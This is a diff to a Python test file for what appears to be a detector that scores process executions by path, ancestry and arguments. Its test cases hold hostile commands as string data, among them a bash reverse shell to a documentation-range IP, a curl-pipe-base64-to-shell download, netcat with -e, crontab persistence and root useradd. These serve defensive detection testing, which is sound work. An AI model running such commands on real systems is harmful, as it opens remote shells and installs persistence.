@@ -21,11 +21,13 @@ from tests.events import event, raw
 from tests.readme_part import README, written
 
 
-def weighed(*args: str, path: str = "", depth: int | None = 1, **fields: Any) -> Assessment:
+def weighed(
+    *args: str, path: str = "", depth: int | None = 1, earlier: tuple[str, ...] = (), **fields: Any
+) -> Assessment:
     """Weigh an execution by its arguments; it lies in /usr/bin unless told otherwise."""
     path = path or f"/usr/bin/{args[0]}"
     fields = {"process__args": list(args), "process__executable": path, **fields}
-    return weigh(decode(raw(event(name=path.rpartition("/")[2], **fields))), depth, Relation.CHILD)
+    return weigh(decode(raw(event(name=path.rpartition("/")[2], **fields))), depth, Relation.CHILD, earlier)
 
 
 def codes(*args: str, **options: Any) -> list[str]:
@@ -132,7 +134,9 @@ def test_programs_and_arguments_weigh(args: list[str], expected: list[str]) -> N
     [
         ("/usr/bin/grep", []),
         ("/opt/tool/grep", []),
-        ("/tmp/.x/grep", ["writable_path"]),
+        ("/tmp/.x/grep", ["writable_path", "hidden_path"]),
+        ("/opt/.../x", ["hidden_path"]),
+        ("./x", []),
         ("/home/alice/bin/vacation", ["writable_path"]),
         ("/var/spool/exim4/input/x", ["writable_path"]),
         ("/usr/bin/../../opt/x", ["writable_path"]),
@@ -164,6 +168,8 @@ def test_places_weigh(path: str, expected: list[str]) -> None:
         ({"depth": 2}, []),
         ({"depth": 3}, ["deep"]),
         ({"depth": None}, []),
+        ({"earlier": ("exim4", "sh")}, ["in_place"]),
+        ({"earlier": ("sh",)}, []),
     ],
 )
 def test_who_and_how_deep_weigh(fields: dict[str, Any], expected: list[str]) -> None:
@@ -199,7 +205,10 @@ def test_a_masquerade_is_weighed_by_both_of_its_names() -> None:
         (["procmail"], {}, "low"),
         (["perl", "/usr/bin/rt-mailgate"], {}, "low"),
         (["sh", "-c", "vacation alice"], {}, "medium"),
-        (["grep", "x"], {"path": "/tmp/.x/grep"}, "medium"),
+        (["grep", "x"], {"path": "/tmp/.x/grep"}, "high"),
+        (["sh"], {"earlier": ("exim4",)}, "high"),
+        (["exim-helper"], {"path": "/var/lib/.cache/exim-helper", "user__id": 0}, "medium"),
+        (["useradd", "-m", "x"], {"user__id": 0}, "medium"),
         (["kworker"], {"path": "/dev/shm/kworker (deleted)"}, "high"),
         (["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"], {}, "high"),
         (["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"], {"user__id": 0}, "critical"),
@@ -228,8 +237,9 @@ def test_a_reason_says_what_it_was_found_in() -> None:
 def test_levels_and_scores_are_bounded() -> None:
     """The worst of all has exactly the maximum."""
     worst = weighed(
-        *("bash", "-i", "-c", "curl x|base64 -d|sh; nc -e /tmp/x; >/dev/tcp/1/2"),
-        path="/tmp/../bash (deleted)",
+        *("bash", "-i", "-c", "curl x|base64 -d|sh; crontab y; nc -e /tmp/x; >/dev/tcp/1/2"),
+        path="/tmp/../.x/bash (deleted)",
+        earlier=("exim4",),
         user__id=0,
         depth=3,
     )
